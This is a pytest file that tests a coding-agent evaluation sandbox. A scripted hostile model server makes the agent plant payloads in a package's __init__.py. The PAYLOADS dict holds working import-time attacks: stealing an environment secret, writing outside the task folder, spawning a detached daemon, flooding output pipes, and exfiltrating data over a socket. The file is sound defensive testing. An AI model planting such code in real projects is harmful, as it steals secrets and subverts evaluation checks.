"""Attacks in the code a hidden check runs (tools/checks.py), each executed through a real
`evals agent --base-url` run (and one `train rollouts --base-url` run) against a scripted hostile
server on loopback. The server's first call edits the fix_bug task's package `__init__.py` to
carry the attack, its second is the oracle's fix, then it claims success: the agent only edits,
so the attack runs when the check's pytest imports the package. Attacks: read a secret that only
the evaluating process has in its environment; write outside the task's folder ($HOME, /tmp);
leave a daemon behind; flood the output; open a network connection.

Each test first runs the check the way it ran before tools/checks.py (subprocess.run, the
caller's whole environment, no sandbox; `old_check`, in a child interpreter that reports its
peak memory, VmHWM) on the same edited tree and shows the damage: the secret in a file, files in
$HOME and /tmp, a live daemon, hundreds of MB held, a connection accepted. Then the real run, sandboxed,
and the disk, the process table, the listener and the evaluator's peak memory show none, while
the verdict is what the fix deserves (resolved). The environment rules, the group kill and the
bounded output also hold where the user ran without a sandbox by choice (NANOCODE_SANDBOX=off,
--unsandboxed); writes and the network are not contained there (docs/SECURITY.md)."""
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

import evals.agent as ea
from proc_state import with_cmdline
from tasks import ROLLOUT_SEED0, TRAIN_FAMILIES, build_task
from test_evals_base_url import oracle_script, teacher
from tools import checks
from tools import sandbox as sbx

ROOT = Path(__file__).resolve().parents[1]
SECRET = "NANOCODE_ATTACK_SECRET"
FLOOD_MB = 150  # written to each pipe the check's process holds
pytestmark = pytest.mark.skipif(not (sys.platform == "linux" and sbx.bash_sandbox()["available"]),
                                reason="no OS sandbox here")

# what the edited __init__.py runs at import; {tag}: this test's marker, {port}: the listener
PAYLOADS = {
    "secret": """
import os as _os
_s = _os.environ.get({secret!r}, "absent")
try:
    with open({tmp!r}, "w") as _f:
        _f.write(_s)
except OSError:
    pass
assert _s == "absent", "the check saw the secret"
""",
    "write": """
for _p in ({home!r}, {tmp!r}):
    try:
        with open(_p, "w") as _f:
            _f.write("written by the checked code")
    except OSError:
        pass
""",
    "daemon": """
import os as _os
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _null = _os.open(_os.devnull, _os.O_RDWR)
        for _fd in (0, 1, 2):
            _os.dup2(_null, _fd)
        _os.execvp("sleep", ["sleep", {secs!r}])
    _os._exit(0)
""",
    "flood": """
import os as _os, stat as _st
_chunk = b"x" * (1 << 20)
for _fd in map(int, _os.listdir("/proc/self/fd")):
    try:
        if _st.S_ISFIFO(_os.fstat(_fd).st_mode):  # stdout and stderr, wherever pytest moved them
            for _ in range({mb}):
                _os.write(_fd, _chunk)
    except OSError:
        pass
""",
    "network": """
import socket as _so
try:
    _so.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"exfiltrated")
except OSError:
    pass
""",
}


class Scene:
    """One attack's world: where its writes would land, its daemon's command line, a loopback
    listener that counts connections; `damage()` is what of it is on the host now."""

    def __init__(self, attack: str):
        self.attack = attack
        tag = f"{os.getpid()}-{attack}"
        self.home = os.path.expanduser(f"~/.nanocode-attack-{tag}")
        self.tmp = f"/tmp/nanocode-attack-{tag}"
        self.secs = f"300.{os.getpid()}"
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.accepted = 0
        self.done = threading.Event()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while not self.done.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def payload(self) -> str:
        return PAYLOADS[self.attack].format(secret=SECRET, tmp=self.tmp, home=self.home, secs=self.secs,
                                            mb=FLOOD_MB, port=self.sock.getsockname()[1])

    def damage(self) -> dict:
        out = {}
        for name, path in (("home", self.home), ("tmp", self.tmp)):
            if os.path.exists(path):
                out[name] = Path(path).read_text()
        if pids := with_cmdline("sleep", self.secs):
            out["daemon"] = pids
        if self.accepted:
            out["connections"] = self.accepted
        return out

    def clean(self):
        for path in (self.home, self.tmp):
            Path(path).unlink(missing_ok=True)
        for pid in with_cmdline("sleep", self.secs):
            os.kill(pid, 9)
        self.accepted = 0

    def close(self):
        self.clean()
        self.done.set()
        self.sock.close()


@pytest.fixture
def scene(request):
    s = Scene(request.node.callspec.params["attack"])
    yield s
    s.close()


def hostile_script(task, payload: str) -> list[dict]:
    """The server's replies: the attack into the package's __init__.py, the oracle's fix, a claim."""
    fix = next(m for m in oracle_script(task) if m.get("tool_call", {}).get("name") == "Edit")
    init = os.path.join(os.path.dirname(fix["tool_call"]["args"]["file_path"]), "__init__.py")
    first = Path(task.root, init).read_text().split("\n", 1)[0]
    return [{"content": "setting up the package.", "tool_call": {"name": "Edit", "args": {
                "file_path": init, "old_string": first, "new_string": first + "\n" + payload}}},
            fix, {"content": "fixed: the tests pass now."}]


def apply_script(root: str, script: list[dict]) -> None:
    """The script's edits straight onto a tree (what the agent's Edit calls do)."""
    for m in script:
        if call := m.get("tool_call"):
            path = Path(root, call["args"]["file_path"])
            path.write_text(path.read_text().replace(call["args"]["old_string"], call["args"]["new_string"], 1))


PEAK = "int(next(x for x in open('/proc/self/status') if x.startswith('VmHWM')).split()[1]) // 1024"
OLD_CHECK = f"""
import os, subprocess, sys
r = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"], cwd=sys.argv[1],
                   capture_output=True, text=True, timeout=120,
                   env=dict(os.environ, PYTHONDONTWRITEBYTECODE="1", PYTEST_DISABLE_PLUGIN_AUTOLOAD="1"))
print(r.returncode, {PEAK})
"""


def old_check(root: str) -> tuple[int, int]:
    """tasks/projects.run_tests as it was before tools/checks.py, in a child interpreter with the
    secret in its environment: (pytest's exit status, the child's peak memory in MiB)."""
    out = subprocess.run([sys.executable, "-c", OLD_CHECK, root], capture_output=True, text=True, timeout=180,
                         env={**os.environ, SECRET: "sk-only-the-parent-has-this"}, check=True).stdout
    code, mb = map(int, out.split())
    return code, mb


RUN = f"""
import runpy, sys
sys.argv = [sys.argv[1]] + sys.argv[2:]
try:
    runpy.run_module(sys.argv[0], run_name="__main__")
finally:
    print("peak MiB", {PEAK}, file=sys.stderr)
"""


def run_cli(module: str, *argv, unsandboxed: bool = False) -> tuple[subprocess.CompletedProcess, int]:
    """`python -m module argv...` from the worktree with the secret in its environment (the checks
    run in this process: --workers 1): (the result, its peak memory in MiB)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT), SECRET: "sk-only-the-parent-has-this"}
    env.pop(checks.UNSANDBOXED_ENV, None)
    if unsandboxed:
        env[sbx.ENV_SWITCH] = "off"
        argv = (*argv, "--unsandboxed")
    r = subprocess.run([sys.executable, "-c", RUN, module, *map(str, argv)], cwd=ROOT, env=env,
                       capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL)
    return r, int(r.stderr.rsplit("peak MiB ", 1)[1])


@pytest.fixture(scope="module")
def eval_task(tmp_path_factory):
    [(_, seed)] = ea.task_jobs(["fix_bug"], 1)
    return seed, build_task("fix_bug", seed, True, str(tmp_path_factory.mktemp("attack")))


def control(task, scene, tmp_path) -> dict:
    """The damage the attack does through the old check (cleaned up after)."""
    root = str(tmp_path / "control")
    subprocess.run(["cp", "-a", task.root, root], check=True)
    apply_script(root, hostile_script(task, scene.payload()))
    code, mb = old_check(root)
    done = scene.damage()
    scene.clean()
    return {**done, "exit": code, "peak_mb": mb}


@pytest.mark.parametrize("attack,route", [(a, "sandbox") for a in PAYLOADS]
                         + [(a, "unsandboxed") for a in ("secret", "daemon", "flood")])
def test_an_attack_in_the_checked_code_does_no_damage(eval_task, scene, tmp_path, attack, route):
    seed, task = eval_task
    before = control(task, scene, tmp_path)
    if attack == "secret":  # the old check saw it: it wrote it out, and its tests failed
        assert before["tmp"] == "sk-only-the-parent-has-this" and before["exit"] != 0, before
    elif attack == "write":
        assert before["home"] == before["tmp"] == "written by the checked code", before
    elif attack == "daemon":
        assert len(before["daemon"]) == 1, before
    elif attack == "flood":
        assert before["peak_mb"] > 2 * FLOOD_MB, before  # both pipes read whole into memory
    else:
        assert before["connections"] == 1, before

    script = hostile_script(task, scene.payload())
    with teacher({task.prompt: script}) as url:
        r, peak = run_cli("evals.cli", "agent", "--base-url", url, "--families", "fix_bug", "--limit", 1,
                          "--workers", 1, "--max-steps", 4, "--quiet", "--out", tmp_path / "out",
                          unsandboxed=route == "unsandboxed")
    assert r.returncode == 0, r.stderr
    [rec] = [json.loads(x) for x in (tmp_path / "out" / "agent_server.jsonl").read_text().splitlines()]
    assert rec["seed"] == seed and rec["edits_applied"] == rec["edit_calls"] == 2, rec
    # without a sandbox (by choice) the file is written, writes being not contained: without the secret
    assert scene.damage() == ({"tmp": "absent"} if (attack, route) == ("secret", "unsandboxed") else {})
    # the verdict is the fix's: the attack neither broke the check nor (secret) saw what it wanted
    assert rec["resolved"] and "check_error" not in rec, rec
    if attack == "flood":  # the check's output went through a bounded buffer
        assert peak < FLOOD_MB, (peak, before["peak_mb"])


def test_an_attack_through_train_rollouts_does_no_damage(tmp_path):
    """The same attacks at once, in the fix_bug task a `train rollouts --base-url` run draws
    (its third training task): nothing on disk, no daemon, no connection, and the rollout
    scored resolved."""
    scenes = [Scene(a) for a in PAYLOADS]
    try:
        task = build_task("fix_bug", ROLLOUT_SEED0 + 2, False, str(tmp_path / "built"), "generated")
        assert TRAIN_FAMILIES[2] == "fix_bug"
        script = hostile_script(task, "\n".join(s.payload() for s in scenes))
        with teacher({task.prompt: script}) as url:
            r, peak = run_cli("train.cli", "rollouts", "--base-url", url, "--n", 3, "--workers", 1,
                              "--max-steps", 4, "--out", tmp_path / "r", "--workdir", tmp_path / "work")
        assert r.returncode == 0, r.stderr
        rec = json.loads((tmp_path / "r" / "tasks" / f"rollout-fix_bug-{ROLLOUT_SEED0 + 2}.json").read_text())
        assert rec["resolved"] and "error" not in rec, rec
        assert [s.damage() for s in scenes] == [{}] * len(scenes)
        assert peak < FLOOD_MB, peak
    finally:
        for s in scenes:
            s.close()
